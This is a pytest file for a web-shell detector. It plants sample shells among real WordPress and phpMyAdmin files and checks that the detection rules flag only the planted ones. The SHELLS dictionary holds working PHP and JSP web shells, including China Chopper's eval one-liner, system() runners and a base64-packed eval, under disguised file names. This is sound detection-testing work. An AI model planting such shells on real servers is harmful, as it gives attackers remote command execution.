"""Web shells on disk: WordPress and phpMyAdmin as Debian ships them (1,500+ real PHP files, the benign
look-alikes) raise nothing; the classic shells planted among them (China Chopper's one-liner, a
command runner, backticks, a function name from the request, a packed eval, a JSP runner, a
double-extension upload) are each named by the rules."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import need

from agent.analysis import rules as engine
from collectors.base import Context, FileCopy, Record
from collectors.files import webroot

SHELLS = {
    "/var/www/html/wp-content/uploads/2024/11/cache.php": "<?php @eval($_POST['z0']);?>",
    "/var/www/html/wp-includes/class-wp-cache-helper.php":
        "<?php\nif(isset($_REQUEST['c'])){system($_REQUEST['c']);}\n",
    "/var/www/html/.config.php": "<?php echo `$_GET[x]`; ?>",
    "/var/www/html/wp-admin/css/x.php": "<?php $a=$_GET['f']; $_GET['f']($_POST['d']); ?>",
    "/var/www/html/img/logo.php.png": "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));",
    "/var/lib/tomcat9/webapps/ROOT/status.jsp":
        '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
}


@pytest.fixture(scope="module")
def packages(tmp_path_factory) -> Path:
    """WordPress and phpMyAdmin from Debian's archive, unpacked (not installed)."""
    need(shutil.which("apt-get") is not None and shutil.which("dpkg-deb") is not None,
         "apt-get and dpkg-deb fetch and unpack Debian's wordpress and phpmyadmin packages")
    folder = tmp_path_factory.mktemp("debs")
    got = subprocess.run(["apt-get", "download", "wordpress", "phpmyadmin"], cwd=folder, capture_output=True)
    need(got.returncode == 0, f"apt-get download wordpress phpmyadmin failed: {got.stderr.decode()[-300:]}")
    unpacked = folder / "x"
    for deb in folder.glob("*.deb"):
        subprocess.run(["dpkg-deb", "-x", str(deb), str(unpacked)], check=True)
    return unpacked


def _root(tmp_path: Path, packages: Path, shells: dict[str, str]) -> Path:
    root = tmp_path / "root"
    shutil.copytree(packages / "usr/share/wordpress", root / "var/www/html", symlinks=True)
    shutil.copytree(packages / "usr/share/phpmyadmin", root / "usr/share/nginx/html/pma", symlinks=True)
    for path, text in shells.items():
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    return root


def _findings(root: Path) -> tuple[list[dict], list[str]]:
    items = list(webroot.collect(Context(root=str(root), live=False, options={})))
    records = [i.data for i in items if isinstance(i, Record)]
    copies = [i.path for i in items if isinstance(i, FileCopy)]
    for item in items:
        if isinstance(item, FileCopy):
            item.close()
    rules = [r for r in engine.load_rules() if r.id.startswith("TRI-WEBFILE-")]

    def rows(source: str):
        return (("source", "records/web_files.jsonl", n, r) for n, r in enumerate(records, 1) if source == "web_files")

    return list(engine.evaluate(rules, rows, 0.0)), copies


def test_real_applications_raise_nothing(tmp_path, packages):
    found, _ = _findings(_root(tmp_path, packages, {}))
    assert found == [], [f["summary"] for f in found]


def test_each_planted_shell_is_named(tmp_path, packages):
    found, copies = _findings(_root(tmp_path, packages, SHELLS))
    named = {f["path"] for f in found}
    assert set(SHELLS) <= named, sorted(set(SHELLS) - named)
    high = {f["path"] for f in found if f["severity"] == "high"}
    assert set(SHELLS) - {"/var/www/html/img/logo.php.png"} <= high
    assert set(SHELLS) <= set(copies)  # their bytes are in the bundle for YARA and the responder
